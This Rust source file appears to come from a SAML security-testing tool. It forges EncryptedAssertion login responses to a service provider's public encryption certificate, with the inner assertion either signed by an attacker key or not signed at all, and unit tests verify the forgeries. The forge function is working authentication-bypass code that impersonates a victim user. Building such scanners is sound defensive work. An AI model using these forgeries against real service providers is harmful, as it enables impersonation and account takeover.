//! EncryptedAssertion forgeries: encryption is confidentiality, not authentication. The
//! SP's encryption certificate is public (its metadata), so anyone can encrypt an assertion
//! for it; an SP that trusts whatever decrypts with its key logs the attacker in as anyone.
//!
//! Both forgeries carry the victim's assertion (the Response `base` describes, so every
//! other check passes) encrypted exactly as a correct IdP would (AES-256-GCM, RSA-OAEP);
//! only the inner signature is wrong. The Response itself is unsigned: the attacker has no
//! IdP key, and a Response signature would be a different defence's test.

use super::{Attack, AttackError, Forged, Scenario};
use crate::saml::dsig::{self, SignOptions, SignatureAlgorithm};
use crate::saml::response::{self, Encryption, ResponseError};
use crate::saml::xmlenc::{BlockCipher, KeyTransport};

/// How the forgeries are encrypted: a modern, authenticated cipher, so that a refusal can
/// never be blamed on the SP not supporting CBC or on a padding problem.
pub const FORGED_ENCRYPTION: Encryption = Encryption {
    cipher: BlockCipher::Aes256Gcm,
    transport: KeyTransport::RsaOaepMgf1p,
};

pub(super) fn forge(attack: Attack, s: &Scenario<'_>) -> Result<Forged, AttackError> {
    let sp_cert = s.sp_encryption_cert.ok_or_else(|| {
        AttackError::Unsupported("the SP advertises no encryption certificate".to_string())
    })?;
    let mut doc = response::build(&s.base);
    let description = match attack {
        Attack::EncryptedWrongKey => {
            // The attacker's RSA key with the same algorithm the IdP uses when that is an
            // RSA one, so only the key differs from a genuine login.
            let alg = match s.base.alg {
                SignatureAlgorithm::EcdsaSha256 => SignatureAlgorithm::RsaSha256,
                rsa => rsa,
            };
            let opts = SignOptions {
                alg,
                digest: response::digest_for(alg),
                ..SignOptions::default()
            };
            dsig::sign_enveloped(
                &mut doc,
                &s.base.assertion_id,
                &s.attacker.rsa_key,
                &s.attacker.rsa_cert,
                &opts,
            )
            .map_err(|source| ResponseError::Sign {
                what: "Assertion",
                source,
            })?;
            format!(
                "an EncryptedAssertion (AES-256-GCM, RSA-OAEP, for the SP's published encryption certificate) whose assertion for {} is signed by the attacker's key, its certificate in KeyInfo",
                s.base.name_id
            )
        }
        Attack::EncryptedUnsignedInner => format!(
            "an EncryptedAssertion (AES-256-GCM, RSA-OAEP, for the SP's published encryption certificate) whose assertion for {} is not signed at all",
            s.base.name_id
        ),
        other => {
            return Err(AttackError::Unsupported(format!(
                "{other} is not an encryption attack"
            )));
        }
    };
    response::encrypt(&mut doc, sp_cert, FORGED_ENCRYPTION)?;
    Ok(Forged {
        xml: doc.to_xml(),
        claimed: s.base.name_id.clone(),
        genuine: None,
        description,
    })
}

#[cfg(test)]
mod tests {
    use std::sync::OnceLock;

    use openssl::x509::X509;

    use super::*;
    use crate::saml::attacks::Attacker;
    use crate::saml::dsig::test_keys::{KeyPair, ec, rsa};
    use crate::saml::dsig::{DSIG_NS, DsigError, SAML_ASSERTION_NS};
    use crate::saml::idp::tests::rsa_idp;
    use crate::saml::response::{ResponseSpec, SignMode};
    use crate::saml::xml::{Document, NodePath};
    use crate::saml::xmlenc::{self, XENC_NS};

    const VICTIM: &str = "ceo@example.test";

    fn attacker() -> &'static Attacker {
        static A: OnceLock<Attacker> = OnceLock::new();
        A.get_or_init(|| {
            let r = rsa("oinspect test IdP");
            let e = ec("oinspect test IdP");
            Attacker {
                rsa_key: r.key,
                rsa_cert: r.cert,
                ec_key: e.key,
                ec_cert: e.cert,
            }
        })
    }

    fn sp_enc() -> &'static KeyPair {
        static K: OnceLock<KeyPair> = OnceLock::new();
        K.get_or_init(|| rsa("sp-encryption"))
    }

    fn scenario(cert: Option<&X509>) -> Scenario<'_> {
        let mut base = ResponseSpec::new(
            &rsa_idp().entity_id,
            "https://sp.example/acs",
            "https://sp.example",
            VICTIM,
        );
        base.sign = SignMode::Both;
        Scenario {
            idp: rsa_idp(),
            attacker: attacker(),
            base,
            attacker_identity: "mallory@example.test".into(),
            attacker_attributes: Vec::new(),
            canary_url: None,
            sp_encryption_cert: cert,
        }
    }

    /// Decrypts the forged Response with the SP's key; returns it and the inner Assertion.
    fn open(f: &Forged) -> (Document, Document) {
        let doc = Document::parse(&f.xml).unwrap();
        let (i, ea) = doc
            .root
            .indexed_child_elements()
            .find(|(_, e)| e.is(SAML_ASSERTION_NS, "EncryptedAssertion"))
            .expect("EncryptedAssertion");
        let method = ea
            .find_child(XENC_NS, "EncryptedData")
            .and_then(|d| d.find_child(XENC_NS, "EncryptionMethod"))
            .and_then(|m| m.attr("Algorithm"));
        assert_eq!(method, Some(BlockCipher::Aes256Gcm.uri()));
        assert!(f.xml.contains(KeyTransport::RsaOaepMgf1p.uri()));
        let inner = xmlenc::decrypt_assertion_at(&doc, &NodePath(vec![i]), &sp_enc().key).unwrap();
        (doc, inner)
    }

    fn name_id(a: &Document) -> String {
        a.root
            .find_child(SAML_ASSERTION_NS, "Subject")
            .and_then(|s| s.find_child(SAML_ASSERTION_NS, "NameID"))
            .unwrap()
            .text()
    }

    #[test]
    fn wrong_key_inner_is_signed_by_the_attacker_for_the_victim() {
        let s = scenario(Some(&sp_enc().cert));
        let f = forge(Attack::EncryptedWrongKey, &s).unwrap();
        assert_eq!(f.claimed, VICTIM);
        assert_eq!(f.genuine, None);
        assert!(f.description.contains("attacker's key"));
        assert!(!f.xml.contains(VICTIM), "the victim's name is encrypted");
        let (outer, inner) = open(&f);
        // Nothing outside the encryption is signed.
        assert!(dsig::signature_paths(&outer).is_empty());
        assert_eq!(name_id(&inner), VICTIM);
        assert_eq!(inner.root.attr("ID"), Some(s.base.assertion_id.as_str()));
        // The signature is valid, by the attacker's key, with its certificate in KeyInfo...
        let refs = dsig::verify(&inner, std::slice::from_ref(&attacker().rsa_cert)).unwrap();
        assert_eq!(refs.len(), 1);
        assert_eq!(refs[0].signed_element_path, NodePath::default());
        assert_eq!(refs[0].signature_algorithm, SignatureAlgorithm::RsaSha256);
        let kid_cert = inner
            .root
            .find_child(DSIG_NS, "Signature")
            .and_then(|s| s.find_child(DSIG_NS, "KeyInfo"))
            .and_then(|k| k.find_child(DSIG_NS, "X509Data"))
            .and_then(|d| d.find_child(DSIG_NS, "X509Certificate"))
            .map(|c| c.text());
        assert!(kid_cert.is_some());
        // ...and not by the IdP's.
        assert!(matches!(
            dsig::verify(&inner, std::slice::from_ref(&rsa_idp().cert)),
            Err(DsigError::UntrustedKey { .. } | DsigError::SignatureInvalid { .. })
        ));
    }

    #[test]
    fn unsigned_inner_has_no_signature_anywhere() {
        let s = scenario(Some(&sp_enc().cert));
        let f = forge(Attack::EncryptedUnsignedInner, &s).unwrap();
        assert_eq!((f.claimed.as_str(), f.genuine.as_deref()), (VICTIM, None));
        assert!(f.description.contains("not signed"));
        let (outer, inner) = open(&f);
        assert!(dsig::signature_paths(&outer).is_empty());
        assert!(dsig::signature_paths(&inner).is_empty());
        assert_eq!(name_id(&inner), VICTIM);
        // Everything else is what a correct login carries.
        let genuine = response::build(&s.base);
        let plain = genuine
            .root
            .find_child(SAML_ASSERTION_NS, "Assertion")
            .unwrap();
        assert_eq!(&inner.root.children, &plain.children);
    }

    #[test]
    fn an_ec_idp_algorithm_falls_back_to_rsa_sha256() {
        let mut s = scenario(Some(&sp_enc().cert));
        s.base.alg = SignatureAlgorithm::EcdsaSha256;
        let f = forge(Attack::EncryptedWrongKey, &s).unwrap();
        let (_, inner) = open(&f);
        let refs = dsig::verify(&inner, std::slice::from_ref(&attacker().rsa_cert)).unwrap();
        assert_eq!(refs[0].signature_algorithm, SignatureAlgorithm::RsaSha256);
        let mut s = scenario(Some(&sp_enc().cert));
        s.base.alg = SignatureAlgorithm::RsaSha512;
        let (_, inner) = open(&forge(Attack::EncryptedWrongKey, &s).unwrap());
        let refs = dsig::verify(&inner, std::slice::from_ref(&attacker().rsa_cert)).unwrap();
        assert_eq!(refs[0].signature_algorithm, SignatureAlgorithm::RsaSha512);
    }

    #[test]
    fn without_an_encryption_certificate_the_attacks_do_not_apply() {
        let s = scenario(None);
        for a in [Attack::EncryptedWrongKey, Attack::EncryptedUnsignedInner] {
            match forge(a, &s) {
                Err(AttackError::Unsupported(m)) => {
                    assert_eq!(m, "the SP advertises no encryption certificate")
                }
                other => panic!("{a}: {other:?}"),
            }
        }
        // Also reached through the dispatcher.
        assert!(matches!(
            super::super::forge(Attack::EncryptedUnsignedInner, &s),
            Err(AttackError::Unsupported(_))
        ));
        // An EC certificate cannot receive RSA key transport: a typed error, no panic.
        let ec_cert = ec("sp-ec").cert;
        let s = scenario(Some(&ec_cert));
        assert!(matches!(
            forge(Attack::EncryptedUnsignedInner, &s),
            Err(AttackError::Response(ResponseError::Encrypt(_)))
        ));
    }

    #[test]
    fn names_round_trip() {
        for a in [Attack::EncryptedWrongKey, Attack::EncryptedUnsignedInner] {
            assert_eq!(Attack::from_name(&a.name()), Some(a));
        }
        assert_eq!(Attack::EncryptedWrongKey.name(), "encrypted-wrong-key");
        assert_eq!(
            Attack::EncryptedUnsignedInner.name(),
            "encrypted-unsigned-inner"
        );
    }
}
